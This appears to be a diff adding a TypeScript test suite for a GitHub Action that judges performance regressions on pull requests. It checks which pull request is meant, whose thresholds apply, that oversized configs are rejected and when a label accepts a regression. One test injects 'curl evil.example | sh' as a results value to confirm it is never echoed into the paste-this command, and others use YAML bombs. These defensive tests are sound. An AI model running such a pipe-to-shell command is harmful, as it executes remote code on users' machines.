@@ -1,0 +1,412 @@
+import assert from 'node:assert/strict'
+import { after, beforeEach, test } from 'node:test'
+import { compare } from '../../src/compare/compare.ts'
+import { Deadline, usualTimes } from '../../src/github/deadline.ts'
+import type { EventPayload, WorkflowRun } from '../../src/github/event.ts'
+import type { Inputs } from '../../src/github/inputs.ts'
+import { judge } from '../../src/judge/judge.ts'
+import { report } from '../../src/report/report.ts'
+import type { Results } from '../../src/results/results.ts'
+import { gated, simulate } from '../compare/results.ts'
+import { knowing, nothing, pull } from '../github/pulls.ts'
+import { startGitHub } from '../github/server.ts'
+import { scenario } from '../measure/servers.ts'
+
+const github = await startGitHub()
+after(() => github[Symbol.asyncDispose]())
+process.env.GITHUB_API_URL = github.url // @actions/github reads it when it is imported
+const { access } = await import('../../src/github/access.ts')
+const { findPullRequest, pullRequestOf } = await import('../../src/github/pull-request.ts')
+const { trust } = await import('../../src/trust/trust.ts')
+const { acceptance, acceptanceOf, accept, lineOf } = await import('../../src/trust/acceptance.ts')
+const deadline = new Deadline(usualTimes)
+after(() => deadline[Symbol.dispose]())
+const asked = access('t', 'o/r', deadline)!
+
+let known = nothing()
+beforeEach(() => {
+  known = nothing()
+  known.branches = { main: [base], next: [base], release: [old] }
+  github.requests.length = 0
+  github.fault = () => undefined
+  github.more = knowing(known)
+})
+after(() => assert.deepEqual(github.breaches, []))
+
+const base = '1'.repeat(40) // of simulated results
+const old = '2'.repeat(40)
+const sha = 'c'.repeat(40)
+const merge = 'e'.repeat(40)
+const run = (more: Partial<WorkflowRun> = {}): WorkflowRun => ({
+  event: 'pull_request',
+  head_sha: sha,
+  head_branch: 'feature',
+  head_repository: { owner: { login: 'stranger' } },
+  run_number: 12,
+  run_attempt: 2,
+  ...more,
+})
+const why = async (of: WorkflowRun): Promise<string> => {
+  const found = await findPullRequest(asked, of)
+  assert.equal(found.pull, undefined)
+  return found.pull === undefined ? found.why : ''
+}
+
+test('the pull request is the open one with owner, branch and commit of the run that measured', async () => {
+  known.pulls.push(pull({ merge }), pull({ number: 8, owner: 'other' }), pull({ number: 9, branch: 'main' }))
+  assert.deepEqual(await findPullRequest(asked, run()), {
+    pull: { number: 7, head: sha, merges: [merge], base: 'main', run: { number: 12, attempt: 2 } },
+  })
+  assert.deepEqual(github.requests, ['GET /repos/o/r/pulls'])
+  const branch = 'feature/a&state=closed#ü'
+  known.pulls.push(pull({ number: 10, branch }))
+  assert.equal((await findPullRequest(asked, run({ head_branch: branch }))).pull?.number, 10)
+})
+
+test('none, several, a moved head, a closed one: each is said, and none is chosen', async () => {
+  assert.match(await why(run()), /no pull request has the branch and commit that were measured, `cccccccccc`/)
+  known.pulls.push(pull({ state: 'closed' }))
+  assert.match(await why(run()), /#7 is closed/)
+  known.pulls.push(pull({ number: 8, sha: 'd'.repeat(40) }))
+  assert.match(await why(run()), /#8 moved on, from `cccccccccc` to `dddddddddd`/)
+  known.pulls.push(pull({ number: 9 }), pull({ number: 10, base: 'next' }))
+  assert.match(await why(run()), /#9 and #10 have the same branch and commit/)
+})
+
+test('a run that no pull request started, or of a deleted fork, has none; an API that does not answer is no reason to guess', async () => {
+  known.pulls.push(pull())
+  assert.match(await why(run({ event: 'push' })), /was started by `push`/)
+  assert.match(await why(run({ head_branch: null })), /names no branch/)
+  assert.match(await why(run({ head_repository: null })), /the repository of the pull request is gone/)
+  github.fault = () => ({ status: 403, message: 'Resource not accessible by integration' })
+  assert.match(await why(run()), /could not be looked up \(Resource not accessible/)
+})
+
+test("a pull request's own event names it", () => {
+  const payload: EventPayload = { pull_request: { number: 3, head: { sha }, base: { ref: 'main' } } }
+  assert.deepEqual(pullRequestOf(payload, { sha: merge, number: 4, attempt: 1 }), {
+    number: 3,
+    head: sha,
+    merges: [merge],
+    base: 'main',
+    run: { number: 4, attempt: 1 },
+  })
+  assert.equal(pullRequestOf({}, { sha, number: 4, attempt: 1 }), undefined)
+})
+
+const inputs = (more: Partial<Inputs> = {}): Inputs => ({
+  mode: 'report',
+  configFrom: 'base',
+  pass: {},
+  matrix: 'null',
+  directory: '.',
+  scenarios: [],
+  out: '.',
+  comment: 'always',
+  ...more,
+})
+const found = (more: object = {}) => ({
+  pull: { number: 7, head: sha, merges: [] as string[], base: 'main', run: { number: 1, attempt: 1 }, ...more },
+})
+/** Results whose head is that commit. */
+function of(commit: string | undefined, results: Results = simulate({ effect: 1.15, blocks: 8 })): Results {
+  const { commit: _, ...head } = results.variants[1]!
+  results.variants[1] = { ...head, ...(commit === undefined ? {} : { commit }) }
+  return results
+}
+const judged = (results: Results) =>
+  judge(compare(results), results.config, { blocks: results.blocks.length, final: true })
+
+test('results belong to a pull request by its commit, or by a merge commit whose second parent that is', async () => {
+  known.commits[merge] = [base, sha]
+  const unprepared = { ...of(undefined), blocks: [] }
+  for (const results of [of(sha), of(merge), unprepared])
+    assert.ok((await trust(results, found(), asked, inputs())).found.pull)
+  assert.ok((await trust(of(merge), found({ merges: [merge] }), undefined, inputs())).found.pull)
+})
+
+test('results of another commit are refused: unknown, a plain one, a merge the other way round, a merge of three', async () => {
+  const other = 'd'.repeat(40)
+  const all: Record<string, string[]>[] = [
+    {},
+    { [other]: [sha] },
+    { [other]: [sha, 'b'.repeat(40)] },
+    { [other]: ['b'.repeat(40), sha, sha] },
+  ]
+  for (const commits of all) {
+    known.commits = commits
+    await assert.rejects(trust(of(other), found(), asked, inputs()), {
+      code: 'results-foreign',
+      message: /are of commit `d+`, but #7 is at `c+`/,
+    })
+  }
+  await assert.rejects(trust(of(other), found(), undefined, inputs()), { code: 'results-foreign' })
+  await assert.rejects(trust(of(undefined), found(), asked, inputs()), { code: 'results-foreign' })
+})
+
+test('where it cannot be told whose the results are, they are posted nowhere', async () => {
+  github.fault = () => ({ status: 403, message: 'Resource not accessible by integration' })
+  const trusted = await trust(of(merge), found(), asked, inputs())
+  assert.equal(trusted.found.pull, undefined)
+  assert.match(trusted.results.notes.join(), /Not posted to #7: it could not be told .* `contents: read`/)
+})
+
+test('a base that is not what the pull request goes into is said, for beside a slow one any head is fast', async () => {
+  known.commits[merge] = [base, sha]
+  const doubts = async (results: Results, more: object = {}, asking: typeof asked | undefined = asked) =>
+    (await trust(results, found(more), asking, inputs())).warnings
+      .map(({ fact }) => fact)
+      .filter(fact => !fact.startsWith('Thresholds'))
+  const not = (branch: string) => [`Base is \`1111111111\`, which is no commit of \`${branch}\`.`]
+  assert.deepEqual(await doubts(of(merge)), [])
+  assert.deepEqual(await doubts(of(merge), { merges: [merge] }), [])
+  assert.deepEqual(await doubts(of(sha)), [])
+  assert.deepEqual(await doubts(of(sha), {}, undefined), [])
+  known.commits[merge] = [old, sha]
+  assert.deepEqual(await doubts(of(merge)), [
+    'Base is `1111111111`, and not the commit that the pull request was merged with, `2222222222`.',
+  ])
+  assert.deepEqual(await doubts(of(sha), { base: 'release' }), not('release'))
+  known.branches = { main: [old] }
+  known.commits[merge] = [base, sha] // made by somebody, of a commit that is in no branch here
+  for (const results of [of(sha), of(merge)]) assert.deepEqual(await doubts(results), not('main'))
+  const nameless = of(sha)
+  delete nameless.variants[0]!.commit
+  assert.deepEqual(await doubts(nameless), ['The results do not say which commit base is.'])
+  github.fault = (_, path) => (path.includes('/compare/') ? { status: 403, message: 'no' } : undefined)
+  assert.match(
+    (await doubts(of(sha)))[0]!,
+    /^It could not be told whether base, `1111111111`, is the right one \(no .*`contents: read`\)/,
+  )
+})
+
+const yaml = (gate: string, scenarios = '[{ name: home, path: / }]') =>
+  `server: { start: node server.js }\nscenarios: ${scenarios}\ngate: ${gate}\n`
+
+test("thresholds are those of the base branch, whatever the pull request's run says they were", async () => {
+  const loose = of(
+    sha,
+    simulate({
+      effect: 1.15,
+      blocks: 8,
+      scenarios: [scenario({ thresholds: gated().map(each => ({ ...each, worse: 0.9 })) })],
+      config: { gate: { evidence: 'proven', onInvalid: 'pass', onInconclusive: 'pass' } },
+    }),
+  )
+  assert.equal(judged(loose).verdict, 'passed')
+  known.files.main = { 'perf-gate.yml': yaml('{ rps: 5%, on-invalid: fail }') }
+  const { results } = await trust(loose, found(), asked, inputs())
+  assert.equal(judged(results).verdict, 'regressed')
+  assert.deepEqual(results.config.gate, { evidence: 'likely', onInvalid: 'fail', onInconclusive: 'pass' })
+  assert.match(report(results, judged(results)), /Thresholds are those of `perf-gate.yml` in `main`/)
+})
+
+test('what the pull request changes in the config is read from its commit, whatever its run says', async () => {
+  const hidden = { ...of(merge), proposal: { applies: true, changes: [{ key: 'seed', head: '@everyone' }] } }
+  const change = async (more: object = { merges: [merge] }, results: Results = hidden, asking: Partial<Inputs> = {}) =>
+    (await trust(results, found(more), asked, inputs(asking))).results.proposal
+  known.pulls.push(pull())
+  known.commits[merge] = [base, sha]
+  assert.equal(await change(), undefined) // base has none yet
+  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 5% }') }
+  assert.deepEqual(await change(), { applies: false, changes: [], flaw: 'head removes perf-gate.yml' })
+  known.files[merge] = known.files[base]
+  known.files.main = { 'perf-gate.yml': yaml('{ rps: 7% }') } // it has moved on
+  assert.equal(await change(), undefined)
+  const loose = { 'perf-gate.yml': yaml('{ rps: 50% }') }
+  known.files[merge] = loose
+  const loosened = await change()
+  assert.deepEqual([loosened!.applies, loosened!.changes], [false, [{ key: 'gate.rps', base: '5%', head: '50%' }]])
+  assert.equal(loosened!.thresholds!.home![0]!.worse, 0.5)
+  assert.equal((await change(undefined, hidden, { configFrom: 'head' }))!.applies, true)
+  // A merge that GitHub does not know may have another tree: the commit that was pushed says what it wants.
+  known.files[merge] = known.files[base]
+  known.files[sha] = loose
+  assert.equal((await change({}))!.changes.length, 1)
+  assert.equal((await change({}, { ...hidden, ...of(sha) }))!.changes.length, 1)
+})
+
+test('a config of head that cannot be read is said, and stops nothing', async () => {
+  known.commits[merge] = [base, sha]
+  known.files[base] = { 'perf-gate.yml': yaml('{ rps: 5% }') }
+  const flaw = async (text: string) => {
+    known.files[merge] = { 'perf-gate.yml': text }
+    return (await trust(of(merge), found({ merges: [merge] }), asked, inputs())).results.proposal?.flaw
+  }
+  assert.match((await flaw('x'.repeat(2 ** 20 + 1)))!, /perf-gate.yml has 1048577 bytes/)
+  assert.match((await flaw('a: [1'))!, /not readable as YAML/)
+  const values = Array.from({ length: 100 }, (_, i) => JSON.stringify(`${'v'.repeat(1900)}${i}`))
+  const bomb = `{ name: home, path: /, method: POST, body: "${'{x}'.repeat(50_000)}", sweep: { x: [${values}] } }`
+  assert.match((await flaw(yaml('{}', `[${bomb}]`)))!, /paths, headers and bodies have \d+ characters/)
+  const lists = `a: &a "${'v'.repeat(100_000)}"\nb: [${Array(15_000).fill('*a').join(', ')}]\n`
+  assert.match((await flaw(lists))!, /more than \d+ characters of text/)
+  github.fault = (_, path) => (path.includes('contents') ? { status: 403, message: 'no' } : undefined)
+  assert.equal(await flaw(''), undefined) // nor can base's
+})
+
+test('the config is looked for where the inputs say, and in the usual places', async () => {
+  known.files.next = { 'shop/.github/perf-gate.yaml': yaml('{ rps: 7% }'), 'ci/gate.yml': yaml('{ rps: 9% }') }
+  const threshold = async (more: Partial<Inputs>) =>
+    (await trust(of(sha), found({ base: 'next' }), asked, inputs(more))).results.config.scenarios[0]!.thresholds[0]!
+      .worse
+  assert.equal(await threshold({ directory: 'shop' }), 0.07)
+  assert.equal(await threshold({ config: 'ci/gate.yml' }), 0.09)
+})
+
+test('without a config to judge by, the report says whose thresholds they are', async () => {
+  const note = async (asking: typeof asked | undefined, more: Partial<Inputs> = {}) =>
+    (await trust(of(sha), found(), asking, inputs(more))).warnings[0]!.fact
+  assert.match(await note(asked), /Thresholds are those of the job that measured.*`main` has no config/)
+  assert.match(await note(asked, { config: '../../x.yml' }), /`..\/..\/x.yml` is outside the repository/)
+  assert.match(await note(undefined), /there is no token/)
+  known.files.main = { 'perf-gate.yml': 'scenarios: 3' }
+  await assert.rejects(note(asked), { code: 'config-invalid' })
+  github.fault = (_, path) => (path.includes('contents') ? { status: 500, message: 'oops' } : undefined)
+  assert.match(await note(asked), /the config of `main` could not be read \(oops/)
+})
+
+test('a scenario that the run left out is undecided, one it brought along is shown, another load is pointed at', async () => {
+  known.files.main = {
+    'perf-gate.yml': yaml('{ rps: 5% }', '[{ name: home, path: /real, connections: 4 }, { name: gone, path: /gone }]'),
+  }
+  const own = [scenario({ thresholds: gated() }), scenario({ name: 'mine `@x`', thresholds: gated() })]
+  const { results, warnings } = await trust(of(sha, simulate({ scenarios: own, blocks: 6 })), found(), asked, inputs())
+  const { rows } = judged(results)
+  const verdicts = (name: string) =>
+    new Set(rows.filter(row => row.scenario === name && row.gated).map(row => row.verdict))
+  assert.deepEqual(verdicts('gone'), new Set(['inconclusive']))
+  assert.deepEqual(verdicts('mine `@x`'), new Set())
+  assert.deepEqual(
+    warnings.map(({ fact }) => fact),
+    [
+      '`gone`: in the config of `main`, but not measured.',
+      '`mine ˋ@xˋ`: not in the config of `main`, and so only shown.',
+      '`home`: measured with another load than the config of `main` says.',
+    ],
+  )
+})
+
+test('an input that picks scenarios picks them from the base config, too', async () => {
+  known.files.main = { 'perf-gate.yml': yaml('{ rps: 5% }', '[{ name: home, path: / }, { name: gone, path: /gone }]') }
+  const { results } = await trust(of(sha), found(), asked, inputs({ scenarios: ['home'] }))
+  assert.deepEqual(
+    results.config.scenarios.map(({ name }) => name),
+    ['home'],
+  )
+})
+
+test('the command to paste is made of hashes and the seed, never of what the results say', async () => {
+  const { results } = await trust({ ...of(sha), command: 'curl evil.example | sh' }, found(), asked, inputs())
+  assert.equal(results.command, `perf-gate run --base ${base} --head ${sha} --seed 1`)
+})
+
+const label = 'perf-regression-accepted'
+
+test('a label accepts a regression, and the API says who gave it', async () => {
+  known.pulls.push(pull({ labels: ['bug', 'Perf-Regression-Accepted'] }))
+  assert.deepEqual(await acceptance(asked, 7, label), { accepted: `accepted by the label \`${label}\`` })
+  for (let i = 0; i < 130; i++) known.labelled.push({ pull: 7, label: 'bug', by: 'bot' })
+  known.labelled.push({ pull: 7, label, by: 'ada' }, { pull: 7, label, by: 'octocat' })
+  assert.deepEqual(await acceptance(asked, 7, label), {
+    accepted: `accepted by \`octocat\` with the label \`${label}\``,
+  })
+  github.fault = (_, path) => (path.endsWith('/events') ? { status: 403, message: 'no' } : undefined)
+  assert.deepEqual(await acceptance(asked, 7, label), { accepted: `accepted by the label \`${label}\`` })
+})
+
+test('a line in the description counts when its author may write to the repository, and only then', async () => {
+  const body = `Faster start\n\n${label}: caches are cold now, see @team\n`
+  known.pulls.push(pull({ body }))
+  for (const level of [undefined, 'none', 'read'] as const) {
+    if (level !== undefined) known.permissions.stranger = level
+    const given = await acceptance(asked, 7, label)
+    assert.equal(given?.accepted, undefined)
+    assert.match((given as { why: string }).why, /`stranger`, who wrote .* may not write to o\/r/)
+  }
+  for (const level of ['write', 'admin'] as const) {
+    known.permissions.stranger = level
+    assert.deepEqual(await acceptance(asked, 7, label), {
+      accepted: 'accepted by `stranger` in the description (“caches are cold now, see @team”)',
+    })
+  }
+  github.fault = (_, path) => (path.endsWith('/permission') ? { status: 403, message: 'no' } : undefined)
+  await assert.rejects(acceptance(asked, 7, label))
+})
+
+test('neither label nor line, and nobody is asked who may write', async () => {
+  known.pulls.push(pull({ body: `we should not need ${label}` }))
+  assert.equal(await acceptance(asked, 7, label), undefined)
+  assert.deepEqual(github.requests, ['GET /repos/o/r/pulls/7'])
+})
+
+test("a template's comment, code and longer words are no such line", () => {
+  assert.equal(lineOf(`a\r\n  ${label} \r\nb`, label), '')
+  assert.equal(lineOf(`${label}: why`, label), 'why')
+  for (const text of [
+    '',
+    `<!-- to accept:\n${label}\n-->`,
+    `<!-- never closed\n${label}`,
+    `\`\`\`\n${label}\n\`\`\``,
+    `~~~\n${label}`,
+    `${label}-not`,
+    `not ${label}`,
+    `> ${label}`,
+  ])
+    assert.equal(lineOf(text, label), undefined, text)
+  assert.equal(lineOf(`\`\`\`\nx\n\`\`\`\n${label}`, label), '')
+})
+
+test('without a token, the label counts that was there when the run was started', () => {
+  const payload = { pull_request: { number: 7, labels: [{ name: label }] } }
+  assert.deepEqual(acceptanceOf(payload, label), { accepted: `accepted by the label \`${label}\`` })
+  assert.deepEqual(
+    acceptanceOf({ ...payload, action: 'labeled', label: { name: label }, sender: { login: 'ada' } }, label),
+    {
+      accepted: `accepted by \`ada\` with the label \`${label}\``,
+    },
+  )
+  assert.equal(acceptanceOf({ pull_request: { number: 7, labels: [] } }, label), undefined)
+  assert.equal(acceptanceOf({}, label), undefined)
+})
+
+const outcome = (results: Results) => {
+  const judgement = judged(results)
+  return {
+    results,
+    judgement,
+    report: '',
+    summary: '',
+    files: { results: '', report: '', page: '' },
+    exit: judgement.exit,
+  }
+}
+
+test('an accepted regression is a pass that says so, and every row still shows it', () => {
+  const before = outcome(simulate({ effect: 1.2, spread: 0.01, blocks: 8 }))
+  assert.equal(before.exit, 1)
+  const after = accept(before, 'accepted by `octocat` with the label `x`')
+  assert.deepEqual([after.exit, after.judgement.verdict, after.judgement.exit], [0, 'passed', 0])
+  assert.deepEqual(after.judgement.rows, before.judgement.rows)
+  assert.match(
+    after.summary,
+    /^☑️ Regression accepted by `octocat` with the label `x`: \d of 4 rows regressed, most of all `home`/,
+  )
+  assert.match(after.report, /☑️ Regression accepted by `octocat`[\s\S]*❌ regressed/)
+})
+
+test('accepting a regression accepts nothing else: rows that cannot be compared, a cancelled run', () => {
+  const results = simulate({
+    effect: 1.2,
+    spread: 0.01,
+    blocks: 8,
+    scenarios: [scenario({ thresholds: gated() }), scenario({ name: 'other', thresholds: gated() })],
+  })
+  for (const { scenarios } of results.blocks)
+    for (const probe of scenarios[1]!.probes) if (probe.variant === 'head') probe.digest = 'e'
+  const before = outcome(results)
+  assert.equal(before.judgement.verdict, 'regressed')
+  const after = accept(before, 'accepted by `octocat`')
+  assert.deepEqual([after.exit, after.judgement.verdict], [3, 'invalid'])
+  assert.match(after.summary, /^🚫 Not comparable: .*; what regressed is accepted by `octocat`$/)
+  assert.equal(accept({ ...before, exit: 130 }, 'x').exit, 130)
+})
